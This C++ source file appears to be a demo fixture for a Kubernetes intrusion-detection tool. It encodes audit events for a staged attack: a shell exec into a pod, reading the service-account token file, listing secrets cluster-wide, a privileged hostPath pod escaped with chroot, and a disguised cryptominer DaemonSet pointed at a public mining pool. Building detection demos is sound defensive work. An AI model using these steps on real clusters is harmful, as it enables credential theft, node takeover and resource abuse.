// The intrusion, in the five stages of the classic story. The intruder holds the token of a build pipeline; somebody
// once bound cluster-admin to the default service account of the shop, for debugging.
#include "engine/app/demo_event.h"
#include "engine/app/demo_stream.h"

namespace kubevigil {
namespace {

using namespace demo;
using Events = std::vector<CaseEvent>;

const std::string kAddress = "203.0.113.50";
const Actor kPipeline = {"system:serviceaccount:ci:deployer", "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc",
                         kAddress};
const Actor kDefault = {"system:serviceaccount:shop:default",
                        "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
                        kAddress,
                        {{"authentication.kubernetes.io/pod-name", "web-2"},
                         {"authentication.kubernetes.io/pod-uid", "0d9c8f4e-5f0b-4a38-8f0a-51d8b8b2c7aa"},
                         {"authentication.kubernetes.io/node-name", "node-2"},
                         {"authentication.kubernetes.io/credential-id", "JTI=5f3d1c52-6a0e-4f5b-9a43-2f8e7c1b9d60"}},
                        "RBAC: allowed by ClusterRoleBinding \"shop-debug\" of ClusterRole \"cluster-admin\" to "
                        "ServiceAccount \"default/shop\""};
const Actor kDaemonSets = {"system:serviceaccount:kube-system:daemon-set-controller",
                           "kube-controller-manager/v1.31.4 (linux/amd64) "
                           "kubernetes/a78aa47/system:serviceaccount:kube-system:daemon-set-controller",
                           "10.0.0.2"};

// Entry: a command in a pod of the shop, and the token that lies in it.
void enter(Events& out) {
  CaseEvent shell = with_query(request(kPipeline, minutes(185), "get", "pods/exec", "shop", "web-2"),
                               "command=sh&container=web&stdin=true&stdout=true&tty=true");
  shell.session = minutes(52);
  out.push_back(shell);
  CaseEvent token = with_query(
      request(kPipeline, minutes(187), "get", "pods/exec", "shop", "web-2"),
      "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=web&stdout=true");
  token.session = Duration::seconds(1);
  out.push_back(token);
}

// The stolen token of the default service account, and what it may do: kubectl auth can-i --list.
void probe(Events& out) {
  out.push_back(address(kDefault, minutes(190), "/version"));
  out.push_back(address(kDefault, minutes(190.1), "/api"));
  const CaseEvent list = request(kDefault, minutes(191), "create", "selfsubjectrulesreviews");
  out.push_back(with_body(
      list,
      R"({"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"default"}})"));
}

// Pods and secrets of all namespaces.
void collect(Events& out) {
  out.push_back(with_query(request(kDefault, minutes(194), "list", "pods"), "limit=500"));
  out.push_back(with_query(request(kDefault, minutes(194.5), "list", "namespaces"), "limit=500"));
  out.push_back(with_query(request(kDefault, minutes(195), "list", "secrets"), "limit=500"));
  double at = 196;
  for (const char* ns : {"billing", "auth", "search", "argocd", "vault"}) {
    out.push_back(request(kDefault, minutes(at), "get", "secrets", ns, "db"));
    at += 0.5;
  }
}

// A privileged pod with the root of its node, and a way out of it.
void spread(Events& out) {
  const std::string pod =
      R"({"apiVersion":"v1","kind":"Pod","metadata":{"name":"web-debug","namespace":"shop"},"spec":{"hostPID":true,"nodeName":"node-0","containers":[{"name":"debug","image":"docker.io/library/alpine:3.20","command":["sleep","infinity"],"securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}})";
  out.push_back(with_body(request(kDefault, minutes(206), "create", "pods", "shop", "web-debug"), pod));
  CaseEvent out_of_it = with_query(request(kDefault, minutes(208), "get", "pods/exec", "shop", "web-debug"),
                                   "command=chroot&command=%2Fhost&command=sh&stdin=true&stdout=true&tty=true");
  out_of_it.session = minutes(9);
  out.push_back(out_of_it);
}

// A miner on every node, named like a part of the system.
void take_effect(Events& out) {
  const std::string spec =
      R"({"tolerations":[{"operator":"Exists"}],"containers":[{"name":"node-cache","image":"docker.io/library/ubuntu:24.04","command":["/tmp/node-cache"],"args":["-o","stratum+tcp://pool.supportxmr.com:3333","--donate-level","1"],"resources":{"requests":{"cpu":"4"}}}]})";
  out.push_back(with_body(request(kDefault, minutes(221), "create", "daemonsets", "kube-system", "node-cache"),
                          workload("DaemonSet", "node-cache", spec)));
  const CaseEvent child = with_body(request(kDaemonSets, minutes(221.02), "create", "pods", "kube-system"),
                                    child_pod("DaemonSet", "node-cache", spec));
  out.push_back(repeated(child, 6, Duration{150'000}));
}

}  // namespace

std::vector<CaseEvent> demo_intrusion_events() {
  Events events;
  enter(events);
  probe(events);
  collect(events);
  spread(events);
  take_effect(events);
  return events;
}

}  // namespace kubevigil
